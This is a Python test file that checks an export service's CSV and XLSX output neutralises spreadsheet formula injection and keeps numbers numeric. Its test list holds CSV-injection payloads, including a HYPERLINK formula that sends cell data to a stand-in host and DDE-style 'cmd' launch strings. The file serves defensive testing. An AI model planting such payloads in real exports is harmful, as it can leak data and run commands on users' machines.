"""Exported cells never run as spreadsheet formulas (OWASP CSV injection), CSV and XLSX alike;
numbers, negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from magflow.exports.service import csv_chunks, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ["name", "price", "stock", "tags"]


def _rows() -> list[tuple[Any, ...]]:
    return [(text, Decimal("-12.50"), -3, ["=1+1", "x"]) for text in HOSTILE] + [
        ("Plain name", Decimal("9.99"), 4, [])
    ]


async def _batches() -> AsyncIterator[list[tuple[Any, ...]]]:
    yield _rows()


async def test_csv_cells_are_neutralised_and_numbers_kept() -> None:
    content = b"".join([chunk async for chunk in csv_chunks(_batches(), HEADER)])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1:]
    assert [r[0] for r in rows] == [f"'{text}" for text in HOSTILE] + ["Plain name"]
    assert all(r[1] in ("-12.50", "9.99") and r[2] in ("-3", "4") for r in rows)
    assert rows[0][3] == "'=1+1;x"


async def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    await write_xlsx(_batches(), HEADER, path, "offers")
    sheet = load_workbook(path).worksheets[0]
    cells = list(sheet.iter_rows(min_row=2))
    for (name, price, stock, tags), text in zip(cells, [*HOSTILE, "Plain name"], strict=True):
        expected = text if text == "Plain name" else f"'{text}"
        # XML reads a lone carriage return back as a line feed.
        assert name.data_type == "s" and name.value == expected.replace("\r", "\n")
        assert price.data_type == "n" and stock.data_type == "n"
        assert tags.data_type in ("s", "inlineStr")  # text, never "f" (formula)
    assert cells[0][1].value == Decimal("-12.50") or cells[0][1].value == -12.5
    assert cells[0][2].value == -3
